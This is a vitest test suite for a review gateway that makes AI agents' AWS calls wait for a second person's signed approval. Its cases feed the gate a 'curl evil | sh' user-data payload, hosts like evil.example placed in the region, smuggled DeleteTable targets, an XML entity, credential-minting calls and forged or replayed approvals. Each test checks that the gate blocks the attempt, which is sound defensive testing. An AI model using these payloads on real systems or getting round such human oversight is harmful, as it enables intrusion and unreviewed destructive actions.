// Ways through, each with the rule that closes it, named after its number in docs/red-team.md. All
// are tried at the public doors of a real gate; what reached the upstream is the assertion.
import { randomUUID } from 'node:crypto'
import { cpSync, mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { DeleteTableCommand } from '@aws-sdk/client-dynamodb'
import { EPOCH_NAMESPACE } from '@seconder/gateway/epoch/activation'
import { SESSION_NAMESPACE } from '@seconder/gateway/identify/session-opening'
import { canonicalJson } from '@seconder/gateway/lib/canonical-json'
import { checkDocument } from '@seconder/gateway/review/document'
import { REVIEW_NAMESPACE } from '@seconder/gateway/review/statement'
import { afterEach, beforeEach, expect, test } from 'vitest'
import { type FakeUpstream, startFakeUpstream } from '../fakes/upstream.ts'
import { ACCOUNT, Harness, type Keys, requestIdIn } from './harness.ts'
import { dynamodbCall, queryCall, type RawAnswer, rawCall, send, signed } from './wire.ts'

let upstream: FakeUpstream
let gate: Harness
let keys: Keys

beforeEach(async () => {
  upstream = await startFakeUpstream()
  gate = await Harness.start({ upstream: upstream.url })
  keys = await gate.open('alice')
})

afterEach(async () => {
  await gate.stop()
  await upstream.close()
})

const seen = (operation: string) =>
  upstream.seen.filter((one) => one.operation === operation).length
const deleteOrders = () => rawCall(keys, dynamodbCall('DeleteTable', { TableName: 'orders' }))
const idIn = (answer: RawAnswer) => requestIdIn(new Error(answer.body))
const nonce = () => randomUUID().replaceAll('-', '')
const inFuture = () => new Date(Date.now() + 60_000).toISOString()

async function documentOf(id: string) {
  const { document } = await gate.client.get<{ document: string }>(`/api/requests/${id}`)
  return checkDocument(document)
}

async function statementFor(id: string, changes: Record<string, unknown> = {}) {
  const facts = await gate.client.facts()
  const { document, shown } = await documentOf(id)
  return {
    type: 'seconder-review@v1',
    verdict: 'approve',
    gate: facts.gate,
    epoch: document.epoch,
    request: id,
    digest: document.digest,
    shown,
    reviewer: 'bob',
    comment: '',
    nonce: nonce(),
    expiresAt: inFuture(),
    checkpoint: facts.checkpoint,
    ...changes,
  }
}

test('C1 the operator is proved, never stated, and never reviews their own agent', async () => {
  const facts = await gate.client.facts()
  const statement = {
    type: 'seconder-session@v1',
    gate: facts.gate,
    operator: 'alice',
    agent: 'x',
    role: 'deploy',
    sessionPublicKey: Buffer.alloc(32, 9).toString('base64'),
    signedAt: new Date().toISOString(),
    expiresAt: inFuture(),
    nonce: nonce(),
  }
  const asAlice = gate.client.post(
    '/api/sessions',
    await gate.act('bob', statement, SESSION_NAMESPACE),
  )
  await expect(asAlice).rejects.toMatchObject({ code: 'statement_invalid' })
  const unsigned = {
    statement: canonicalJson({ ...statement, operator: 'alice' }),
    signature: 'none',
    publicKey: 'none',
  }
  await expect(gate.client.post('/api/sessions', unsigned)).rejects.toMatchObject({
    code: 'signature_invalid',
  })
  const id = idIn(await deleteOrders())
  await expect(gate.review('alice', id)).rejects.toMatchObject({ code: 'not_a_reviewer' })
  expect(await gate.review('bob', id)).toMatchObject({ state: 'approved' })
})

test('C3 every person-only verb takes a fresh signature over that very act; a replayed one is refused', async () => {
  const first = idIn(await deleteOrders())
  const act = await gate.act(
    'bob',
    await statementFor(first, { verdict: 'deny' }),
    'seconder-session@v1',
  )
  await expect(gate.client.post('/api/reviews', act)).rejects.toMatchObject({
    code: 'signature_invalid',
  })
  const good = await gate.act('bob', await statementFor(first), REVIEW_NAMESPACE)
  await gate.client.post('/api/reviews', good)
  await expect(gate.client.post('/api/reviews', good)).rejects.toMatchObject({
    code: 'request_closed',
  })
})

test('C3 the default policy takes no approval whose key proves nobody present', async () => {
  const strict = await Harness.start({
    upstream: upstream.url,
    policies: 'policies',
    isolation: () => 'user',
  })
  const session = await strict.open('alice')
  const answer = await rawCall(session, dynamodbCall('DeleteTable', { TableName: 'orders' }))
  const approval = strict.review('bob', idIn(answer))
  await expect(approval).rejects.toThrow("does not prove a person's presence")
  expect(await strict.review('bob', idIn(answer), 'deny', 'no')).toMatchObject({ state: 'denied' })
  await strict.stop()
})

test("the default policy changes nothing in production for an agent on the gate's own user", async () => {
  const strict = await Harness.start({ upstream: upstream.url, policies: 'policies' })
  const session = await strict.open('alice')
  const answer = await rawCall(session, dynamodbCall('DeleteTable', { TableName: 'orders' }))
  expect(answer.body).toContain("runs as the gate's own user")
  await strict.stop()
  expect(seen('DeleteTable')).toBe(0)
})

test('C4 answers that hold credentials never pass, whatever policy says', async () => {
  const fields = {
    Version: '2011-06-15',
    RoleArn: `arn:aws:iam::${ACCOUNT}:role/admin`,
    RoleSessionName: 'x',
  }
  const assumed = await rawCall(keys, queryCall('sts', { Action: 'AssumeRole', ...fields }))
  const token = await rawCall(
    keys,
    queryCall('sts', { Action: 'GetSessionToken', Version: '2011-06-15' }),
  )
  const accessKey = await rawCall(
    keys,
    queryCall(
      'iam',
      { Action: 'CreateAccessKey', Version: '2010-05-08', UserName: 'x' },
      { region: 'us-east-1' },
    ),
  )
  for (const answer of [assumed, token, accessKey]) {
    expect(answer.status).toBe(403)
    expect(answer.body).toContain('credential')
  }
  expect(upstream.seen).toEqual([])
})

test('C5 a region that is a host, an unknown region and a customer-hosted service reach nobody', async () => {
  const good = signed(keys, dynamodbCall('ListTables', {}))
  for (const region of [
    'x@evil.example:443/#',
    'evil.example',
    'eu-west-1.evil',
    'mars-central-1',
  ]) {
    const headers = good.headers.map(
      ([name, value]) => [name, value.replace('/eu-west-1/', `/${region}/`)] as const,
    )
    expect((await send(keys, { ...good, headers })).status).toBeGreaterThanOrEqual(400)
  }
  const mars = await rawCall(keys, dynamodbCall('ListTables', {}, { region: 'mars-central-1' }))
  expect(mars.status).toBeGreaterThanOrEqual(400)
  const hosted = await rawCall(keys, { service: 'execute-api', method: 'GET', target: '/prod/x' })
  expect(hosted.status).toBeGreaterThanOrEqual(400)
  expect(upstream.seen).toEqual([])
})

test('C6 a name or a tag never makes production stop being production', async () => {
  const answer = await rawCall(keys, dynamodbCall('DeleteTable', { TableName: 'dev-orders' }))
  const { document } = await documentOf(idIn(answer))
  expect(document.action.resources.map(({ environment }) => environment)).toEqual(['production'])
  const tagged = await rawCall(
    keys,
    dynamodbCall('TagResource', {
      ResourceArn: `arn:aws:dynamodb:eu-west-1:${ACCOUNT}:table/orders`,
      Tags: [{ Key: 'env', Value: 'dev' }],
    }),
  )
  expect(tagged.body).toContain('in production needs review')
  expect(seen('DeleteTable') + seen('TagResource')).toBe(0)
})

test('C8 another body is another request, signed or not; a presigned or plain call leaves none open', async () => {
  const put = { method: 'PUT', target: '/bucket-b/key', service: 's3', body: 'one' }
  const first = idIn(await rawCall(keys, put))
  const payloadSha256 = 'UNSIGNED-PAYLOAD'
  const unsigned = { ...put, payloadSha256, headers: [['content-length', '3']] as const }
  expect(idIn(await rawCall(keys, unsigned))).toBe(first)
  expect(idIn(await rawCall(keys, { ...unsigned, body: 'two' }))).not.toBe(first)
  const table = dynamodbCall('DeleteTable', { TableName: 'orders' }, { payloadSha256 })
  expect((await rawCall(keys, table)).body).toContain('does not bind')
  await gate.review('bob', first)
  const swapped = await rawCall(keys, { ...put, body: 'two' })
  expect(idIn(swapped)).not.toBe(first)
  expect(upstream.seen.filter(({ operation }) => operation.startsWith('PUT'))).toEqual([])
})

test('C9 code is shown to the reviewer in full; a password is masked and never in ledger or document', async () => {
  const userData = Buffer.from('curl evil | sh').toString('base64')
  const run = await rawCall(
    keys,
    queryCall('ec2', {
      Action: 'RunInstances',
      Version: '2016-11-15',
      ImageId: 'ami-0aaaaaaaaaaaaaaa1',
      MinCount: '1',
      MaxCount: '1',
      UserData: userData,
    }),
  )
  const { document } = await documentOf(idIn(run))
  expect(JSON.stringify(document.action.parameters)).toContain(userData)
  const database = await rawCall(
    keys,
    queryCall('rds', {
      Action: 'ModifyDBInstance',
      Version: '2014-10-31',
      DBInstanceIdentifier: 'main',
      MasterUserPassword: 'correct-horse-battery',
    }),
  )
  const shown = await documentOf(idIn(database))
  expect(JSON.stringify(shown.document.action.parameters)).toContain('hmac-sha256:')
  expect(JSON.stringify([shown.document, await gate.entries()])).not.toContain(
    'correct-horse-battery',
  )
})

test('H1 two meanings for one request are a refusal, and unsigned headers are not passed on', async () => {
  const two = dynamodbCall(
    'DescribeTable',
    { TableName: 'orders' },
    { target: '/?Action=DeleteTable' },
  )
  expect((await rawCall(keys, two)).status).toBeGreaterThanOrEqual(400)
  const repeated = dynamodbCall('DeleteTable', { TableName: 'orders' })
  const body = '{"TableName":"safe","TableName":"orders"}'
  expect((await rawCall(keys, { ...repeated, body })).status).toBeGreaterThanOrEqual(400)
  const late = await rawCall(
    keys,
    dynamodbCall(
      'ListTables',
      {},
      { unsigned: [['x-amz-target', 'DynamoDB_20120810.DeleteTable']] },
    ),
  )
  expect(late.status).toBeGreaterThanOrEqual(400)
  expect(upstream.seen).toEqual([])
  await rawCall(
    keys,
    dynamodbCall('ListTables', {}, { unsigned: [['x-forwarded-for', '10.0.0.1']] }),
  )
  const names = upstream.seen[0]?.request.headers.map(([name]) => name.toLowerCase())
  expect(names).not.toContain('x-forwarded-for')
})

test('H2 a verdict counts only for the gate, epoch, digest and document that were signed', async () => {
  const id = idIn(await deleteOrders())
  const wrong = 'f'.repeat(64)
  for (const changes of [
    { gate: wrong },
    { digest: wrong },
    { shown: wrong },
    { reviewer: 'carol' },
  ]) {
    const act = await gate.act('bob', await statementFor(id, changes), REVIEW_NAMESPACE)
    await expect(gate.client.post('/api/reviews', act)).rejects.toMatchObject({
      code: 'statement_invalid',
    })
  }
  const otherEpoch = await gate.act('bob', await statementFor(id, { epoch: 2 }), REVIEW_NAMESPACE)
  await expect(gate.client.post('/api/reviews', otherEpoch)).rejects.toMatchObject({
    code: 'epoch_changed',
  })
  const expired = await gate.act(
    'bob',
    await statementFor(id, { expiresAt: new Date(0).toISOString() }),
    REVIEW_NAMESPACE,
  )
  await expect(gate.client.post('/api/reviews', expired)).rejects.toMatchObject({
    code: 'statement_invalid',
  })
  expect(seen('DeleteTable')).toBe(0)
})

test('H3 files alone change nothing; two signatures make an epoch, which voids every open approval', async () => {
  const id = idIn(await deleteOrders())
  await gate.review('bob', id)
  const folder = join(gate.folder, 'policies')
  mkdirSync(folder)
  cpSync(join(import.meta.dirname, '..', '..', 'lab', 'policies'), folder, { recursive: true })
  writeFileSync(
    join(folder, 'more.cedar'),
    '@id("more")\nforbid (principal, action == Action::"stop", resource);\n',
  )
  await gate.restartWith(folder)
  expect((await gate.client.facts()).epoch).toBe(1)
  const { version } = await gate.client.get<{ version: string }>('/api/epochs/candidate')
  const statement = async (signer: string) => {
    const { gate: gateId } = await gate.client.facts()
    return {
      type: 'seconder-epoch@v1',
      gate: gateId,
      from: 1,
      version,
      signer,
      nonce: nonce(),
      expiresAt: inFuture(),
    }
  }
  const sign = async (signer: string) =>
    gate.client.post(
      '/api/epochs',
      await gate.act(signer, await statement(signer), EPOCH_NAMESPACE),
    )
  expect(await sign('bob')).toMatchObject({ activated: false, missing: 1 })
  expect(await sign('bob')).toMatchObject({ activated: false, missing: 1 })
  expect((await gate.client.facts()).epoch).toBe(1)
  expect(await sign('alice')).toMatchObject({ activated: true })
  expect((await gate.client.facts()).epoch).toBe(2)
  expect(idIn(await deleteOrders())).not.toBe(id)
  expect(seen('DeleteTable')).toBe(0)
})

test('H6 an operation that nobody looked at is unknown, and needs a second person in production', async () => {
  const cut = await rawCall(
    keys,
    dynamodbCall('UpdateTimeToLive', {
      TableName: 'orders',
      TimeToLiveSpecification: { Enabled: true, AttributeName: 'ttl' },
    }),
  )
  const { document } = await documentOf(idIn(cut))
  expect(document.action.effects).toContain('destroy')
  expect(seen('UpdateTimeToLive')).toBe(0)
})

test('H11 a repeated signature never makes a second effect, and an approval alone starts none', async () => {
  await gate.review('bob', idIn(await deleteOrders()))
  expect(seen('DeleteTable')).toBe(0)
  const once = signed(keys, dynamodbCall('DeleteTable', { TableName: 'orders' }))
  const [first, copy] = await Promise.all([send(keys, once), send(keys, once)])
  expect([first.status, copy.status]).toEqual([200, 200])
  expect(copy.body).toBe(first.body)
  expect((await send(keys, once)).body).toBe(first.body)
  expect(seen('DeleteTable')).toBe(1)
  await gate.restartSame()
  const late = await send(keys, once)
  expect(late.status).toBeGreaterThanOrEqual(400)
  expect(late.body).toMatch(/needs review|already made once/)
  expect(seen('DeleteTable')).toBe(1)
})

test('H11 the same SDK invocation joins the first call even when it was signed again', async () => {
  await gate.review('bob', idIn(await deleteOrders()))
  const invocation = [['amz-sdk-invocation-id', randomUUID()]] as const
  const again = () =>
    rawCall(keys, dynamodbCall('DeleteTable', { TableName: 'orders' }, { headers: invocation }))
  const first = await again()
  expect(first.status).toBe(200)
  expect((await again()).body).toBe(first.body)
  expect(seen('DeleteTable')).toBe(1)
})

test('H12 idempotency tokens of the table stay out of the digest; dates and conditions are in it', async () => {
  const transact = (token: string) =>
    dynamodbCall('TransactWriteItems', {
      ClientRequestToken: token,
      TransactItems: [{ Delete: { TableName: 'orders', Key: { id: { S: '1' } } } }],
    })
  const first = idIn(await rawCall(keys, transact('aaaaaaaa-0000-4000-8000-000000000000')))
  expect(idIn(await rawCall(keys, transact('bbbbbbbb-1111-4111-8111-111111111111')))).toBe(first)
  const delVersion = (etag: string) => ({
    method: 'DELETE',
    target: '/bucket-b/key',
    service: 's3',
    headers: [['if-match', etag]] as const,
  })
  const one = idIn(await rawCall(keys, delVersion('"aaa"')))
  expect(idIn(await rawCall(keys, delVersion('"bbb"')))).not.toBe(one)
})

test('M1 one person fills one seat: permissions in production need two people, one of sre', async () => {
  const attach = queryCall(
    'iam',
    {
      Action: 'AttachRolePolicy',
      Version: '2010-05-08',
      RoleName: 'ci',
      PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess',
    },
    { region: 'us-east-1' },
  )
  const id = idIn(await rawCall(keys, attach))
  expect(await gate.review('bob', id)).toMatchObject({ state: 'pending' })
  await expect(gate.review('bob', id)).rejects.toMatchObject({ code: 'not_a_reviewer' })
  expect(await gate.review('carol', id)).toMatchObject({ state: 'approved' })
})

test('M5 equal secrets of two sessions do not look equal, and no hash of them can be guessed', async () => {
  const bodies: (string | null)[] = []
  const masked = async (session: Keys) => {
    const put = { Name: 'db', SecretString: 'hunter2' }
    const call = {
      service: 'secretsmanager',
      headers: [
        ['content-type', 'application/x-amz-json-1.1'],
        ['x-amz-target', 'secretsmanager.PutSecretValue'],
      ] as const,
      body: JSON.stringify({ SecretId: put.Name, SecretString: put.SecretString }),
    }
    const { document } = await documentOf(idIn(await rawCall(session, call)))
    bodies.push(document.action.body)
    return JSON.stringify(document.action.parameters)
  }
  const mine = await masked(keys)
  const other = await masked(await gate.open('carol'))
  expect(mine).toContain('hmac-sha256:')
  expect(mine).not.toBe(other)
  expect(await masked(keys)).toBe(mine)
  expect(bodies[0]).not.toBe(bodies[1])
  expect(mine + other + JSON.stringify(await gate.entries())).not.toContain('hunter2')
})

test('L4 XML with a DTD or an entity is refused before it is parsed', async () => {
  const body =
    '<!DOCTYPE x [<!ENTITY a "b">]><LifecycleConfiguration><Rule>&a;</Rule></LifecycleConfiguration>'
  const answer = await rawCall(keys, {
    method: 'PUT',
    target: '/bucket-b?lifecycle',
    service: 's3',
    body,
  })
  expect(answer.status).toBeGreaterThanOrEqual(400)
  expect(upstream.seen).toEqual([])
})

test('an agent that closes its connection while it waits makes nothing happen', async () => {
  const agent = gate.dynamodb(keys)
  const held = await agent
    .send(new DeleteTableCommand({ TableName: 'orders' }))
    .catch((error: Error) => error)
  await gate.review('bob', requestIdIn(held))
  agent.destroy()
  expect(seen('DeleteTable')).toBe(0)
})
